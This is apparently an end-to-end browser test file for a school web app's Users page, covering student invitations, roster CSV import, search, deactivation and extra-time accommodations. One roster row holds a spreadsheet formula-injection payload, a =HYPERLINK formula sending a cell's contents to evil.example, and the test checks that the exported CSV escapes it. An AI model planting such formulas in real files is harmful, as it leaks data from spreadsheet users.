import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { adminAuth } from '../support/admin';
import { createTenant, createUser, signIn, type TestUser } from '../support/fixtures';
import { api, freshIp, get, post } from '../support/http';
import { browserPerTest, checkPage, signInAs } from './support/browser';

// The Users page: students added one by one (an invitation link or a password) and from a roster,
// found by name, their classes and extra time shown in the list (on a phone too), deactivated and
// reactivated, and given an accommodation. Each test signs in as an
// administrator of its own: adding and importing are sensitive operations, counted per user.

type Tenant = Awaited<ReturnType<typeof createTenant>>;

const freshEmail = (tag: string) => `${tag}-${randomUUID().slice(0, 8)}@users-page.example`;

/** Chooses a password through an invitation link as the student's invitation page does (its #token redeemed), then signs in. */
async function acceptInvitation(link: string, email: string): Promise<string> {
  const token = new URLSearchParams(new URL(link).hash.slice(1)).get('token');
  assert.ok(token, `a token in ${link}`);
  const res = await post('/api/invitations/redeem', { token, password: 'chosen-by-the-student' }, { ip: freshIp() });
  assert.equal(res.status, 200, res.text);
  return signIn(email, 'chosen-by-the-student');
}

async function openUsersPage(page: Page, admin: TestUser): Promise<void> {
  page.on('dialog', (d) => void d.accept());
  await signInAs(page, admin.email, admin.password);
  await page.getByRole('link', { name: 'Users' }).click();
  await page.getByRole('heading', { name: 'Users', level: 1 }).waitFor();
  await page.getByTestId('students-count').waitFor();
}

describe('web app: the Users page', function () {
  this.timeout(180_000);
  const browser = browserPerTest();
  let tenant: Tenant;
  before(async () => {
    tenant = await createTenant();
  });

  it('adds a student with an invitation link and one with a password, then checks a roster and imports it in partial mode', async function () {
    const { page } = browser();
    const admin = await createUser('client_admin', tenant.clientId);
    await openUsersPage(page, admin);
    await checkPage(page, this, 'users');

    // One by one: an invitation link (the default), which leads the student to a sign-in.
    const form = page.getByRole('form', { name: 'Add a student' });
    const invited = freshEmail('invited');
    await form.getByLabel('Email', { exact: true }).fill(invited);
    await form.getByLabel('Name', { exact: true }).fill('Ines Invited');
    await form.getByRole('button', { name: 'Add student' }).click();
    const added = page.getByTestId('student-added');
    await added.getByText(`Student Ines Invited (${invited}) added.`).waitFor();
    const link = await added.locator('code').textContent();
    await checkPage(page, this, 'student added with an invitation');
    assert.ok(await acceptInvitation(link!, invited));

    // A password the admin sets.
    const withPassword = freshEmail('password');
    await form.getByLabel('Email', { exact: true }).fill(withPassword);
    await form.getByLabel('Name', { exact: true }).fill('Pablo Password');
    await form.getByLabel('A password I set and give them').check();
    await form.getByLabel(/^Password/).fill('set-by-the-admin');
    await form.getByRole('button', { name: 'Add student' }).click();
    await added.getByText(`Student Pablo Password (${withPassword}) added.`).waitFor();
    assert.equal(await added.locator('code').count(), 0, 'no invitation link with a password');
    assert.ok(await signIn(withPassword, 'set-by-the-admin'));
    const students = page.getByRole('table', { name: 'Students of the organization' });
    await students.getByRole('cell', { name: withPassword, exact: true }).waitFor();

    // A roster: a new student with a password, one invited, one already there, a bad row.
    const [rosterPassword, rosterInvited] = [freshEmail('roster-pw'), freshEmail('roster-inv')];
    const roster = [
      'email,name,password',
      `${rosterPassword},Rita Roster,roster-password`,
      // A name a spreadsheet would evaluate: the invitations CSV writes it escaped beside the live link.
      `${rosterInvited},"=HYPERLINK(""http://evil.example/?x=""&A1,""Ivo"")",`,
      `${tenant.student.email},Test student,`,
      'not-an-email,Bad Row,',
    ].join('\n');
    await page
      .getByLabel('Roster file')
      .setInputFiles({ name: 'students.csv', mimeType: 'text/csv', buffer: Buffer.from(roster) });
    await page.getByRole('button', { name: 'Check roster' }).click();
    const rows = page.getByRole('table', { name: /Rows of the roster/ }).locator('tbody tr');
    await rows.first().waitFor();
    assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-status'))), [
      'created',
      'created',
      'already_member',
      'error',
    ]);
    await page.getByTestId('roster-summary').filter({ hasText: 'all or nothing would refuse the file' }).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Import roster' }).isDisabled(), true);
    await checkPage(page, this, 'roster checked');
    assert.equal(await adminAuth.getUserByEmail(rosterPassword).catch(() => null), null, 'a check creates nobody');

    await page.getByLabel('Import the others (partial)').check();
    await page.getByRole('button', { name: 'Import roster' }).click();
    await page.getByText(/^Imported: 2 new students, 1 already there, 1 with errors\.$/).waitFor();
    const links = page.getByRole('table', { name: /Rows of the roster/ }).locator('code');
    assert.equal(await links.count(), 1, 'one invitation link: the row without a password');
    const rosterLink = (await links.first().textContent())!;
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download the invitation links (CSV)' }).click(),
    ]);
    assert.equal(download.suggestedFilename(), 'invitations.csv');
    assert.equal(
      readFileSync((await download.path())!, 'utf8'),
      `email,name,invitation_link\n${rosterInvited},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ivo"")",${rosterLink}\n`,
    );
    await checkPage(page, this, 'roster imported');
    assert.ok(await signIn(rosterPassword, 'roster-password'));
    assert.ok(await acceptInvitation(rosterLink, rosterInvited));
    await students.getByRole('cell', { name: rosterInvited, exact: true }).waitFor();
  });

  it('finds a student by name, shows their classes and extra time, deactivates and reactivates them, and sets their accommodation', async function () {
    const { page } = browser();
    const admin = await createUser('client_admin', tenant.clientId);
    const email = freshEmail('zelda');
    const made = await post(
      '/api/users',
      { email, display_name: 'Zelda Quillfeather', role: 'student', password: 'zelda-password' },
      { token: admin.token, ip: freshIp() },
    );
    assert.equal(made.status, 201, made.text);
    const uid: string = made.body.uid;
    // Two classes (one with a code) and +50%, set through the API.
    const tag = randomUUID().slice(0, 6);
    for (const body of [{ name: `Maths ${tag}`, code: '9M' }, { name: `Art ${tag}` }]) {
      const made = await post('/api/classes', body, { token: admin.token, ip: freshIp() });
      assert.equal(made.status, 201, made.text);
      const joined = await api('PUT', `/api/classes/${made.body.id}/members/${uid}`, {
        token: admin.token,
        ip: freshIp(),
      });
      assert.equal(joined.status, 200, joined.text);
    }
    const extra = await api('PUT', `/api/users/${uid}/accommodations`, {
      token: admin.token,
      ip: freshIp(),
      body: { extra_time_percent: 50, extra_minutes: 0 },
    });
    assert.equal(extra.status, 200, extra.text);
    await openUsersPage(page, admin);

    await page.getByLabel(/^Find by name or email/).fill('zelda quill');
    await page
      .getByTestId('students-count')
      .filter({ hasText: /^1 student found\.$/ })
      .waitFor();
    const row = page.locator(`tr[data-uid="${uid}"]`);
    await row.getByText('active', { exact: true }).waitFor();
    // The classes by name (the class list's labels, by name), the extra time as a teacher reads it.
    const classesCell = row.getByTestId('classes');
    const extraCell = row.getByTestId('extra-time');
    await classesCell.filter({ hasText: `Art ${tag}, Maths ${tag} (9M)` }).waitFor();
    assert.equal(await extraCell.textContent(), '+50%');
    const students = page.getByRole('table', { name: 'Students of the organization' });
    assert.deepEqual(await students.locator('thead th').evaluateAll((ths) => ths.map((th) => th.textContent)), [
      'Name',
      'Email',
      'Classes',
      'Extra time',
      'Status',
      'Actions',
    ]);
    await checkPage(page, this, 'found by name');
    await page.getByLabel(/^Find by name or email/).fill('zzz-nobody');
    await page.getByTestId('students-count').filter({ hasText: 'No student' }).waitFor();
    await page.getByLabel(/^Find by name or email/).fill('Zelda');
    await row.waitFor();

    await row.getByRole('button', { name: /^Deactivate Zelda Quillfeather/ }).click();
    await row.getByText('deactivated', { exact: true }).waitFor();
    const read = async () => (await get(`/api/users/${uid}`, { token: admin.token, ip: freshIp() })).body;
    assert.equal((await read()).disabled, true);
    await checkPage(page, this, 'deactivated');
    await row.getByRole('button', { name: /^Reactivate Zelda Quillfeather/ }).click();
    await row.getByText('active', { exact: true }).waitFor();
    assert.equal((await read()).disabled, false);

    // The editor opens as a dialog over the row (not below the whole table), the focus inside it,
    // on its first field once the student's values are in; Escape shuts it and the focus is back on
    // the button that opened it.
    const opener = row.getByRole('button', { name: /^Accommodation of Zelda Quillfeather/ });
    await opener.click();
    const dialog = page.getByRole('dialog', { name: 'Accommodation of Zelda Quillfeather' });
    await dialog.waitFor();
    assert.ok(await dialog.evaluate((d) => d.contains(document.activeElement)), 'the focus is in the dialog');
    const firstField = dialog.getByLabel('Extra time (%)');
    await page.waitForFunction((field) => field === document.activeElement, await firstField.elementHandle());
    assert.equal(await firstField.inputValue(), '50', 'its current value, read before it takes the focus');
    const box = (await dialog.boundingBox())!;
    const viewport = page.viewportSize()!;
    assert.ok(box.y >= 0 && box.y + box.height <= viewport.height, 'the dialog is on screen');
    const onScreen = await firstField.evaluate((field) => {
      const r = field.getBoundingClientRect();
      return (
        r.height > 0 && r.top >= 0 && r.bottom <= window.innerHeight && r.left >= 0 && r.right <= window.innerWidth
      );
    });
    assert.ok(onScreen, 'the focused field is in the viewport');
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    assert.ok(await opener.evaluate((b) => b === document.activeElement), 'the focus is back on its button');
    await opener.click();
    const editor = page.getByRole('region', { name: 'Accommodation of Zelda Quillfeather' });
    await page.waitForFunction((field) => field === document.activeElement, await firstField.elementHandle());
    await editor.getByLabel('Extra time (%)').fill('25');
    await editor.getByLabel('Extra minutes').fill('10');
    await editor.getByRole('button', { name: 'Save accommodation' }).click();
    await editor.getByText('Accommodation saved.').waitFor();
    await checkPage(page, this, 'accommodation saved');
    const accommodation = await get(`/api/users/${uid}/accommodations`, { token: admin.token, ip: freshIp() });
    assert.equal(accommodation.status, 200, accommodation.text);
    assert.deepEqual([accommodation.body.extra_time_percent, accommodation.body.extra_minutes], [25, 10]);
    // The list says the new extra time; Close gives the focus back too.
    await extraCell.filter({ hasText: /^\+25%, \+10 min$/ }).waitFor();
    await dialog.getByRole('button', { name: 'Close' }).click();
    await dialog.waitFor({ state: 'detached' });
    assert.ok(await opener.evaluate((b) => b === document.activeElement), 'the focus is back on its button');

    // On a phone the table is a card per student: its classes and extra time are on screen, named.
    await page.setViewportSize({ width: 390, height: 844 });
    await row.scrollIntoViewIfNeeded();
    for (const [cell, label] of [
      [classesCell, 'Classes'],
      [extraCell, 'Extra time'],
    ] as const) {
      const shown = await cell.evaluate((td) => {
        const r = td.getBoundingClientRect();
        return {
          // Stacked: a line of the card, its column's name written before it.
          stacked: getComputedStyle(td).display === 'block' && getComputedStyle(td, '::before').content !== 'none',
          label: td.getAttribute('data-label'),
          fits: r.width > 0 && r.left >= 0 && r.right <= document.documentElement.clientWidth,
        };
      });
      assert.deepEqual(shown, { stacked: true, label, fits: true }, label);
    }
    await checkPage(page, this, 'classes and extra time on a phone');
  });
});
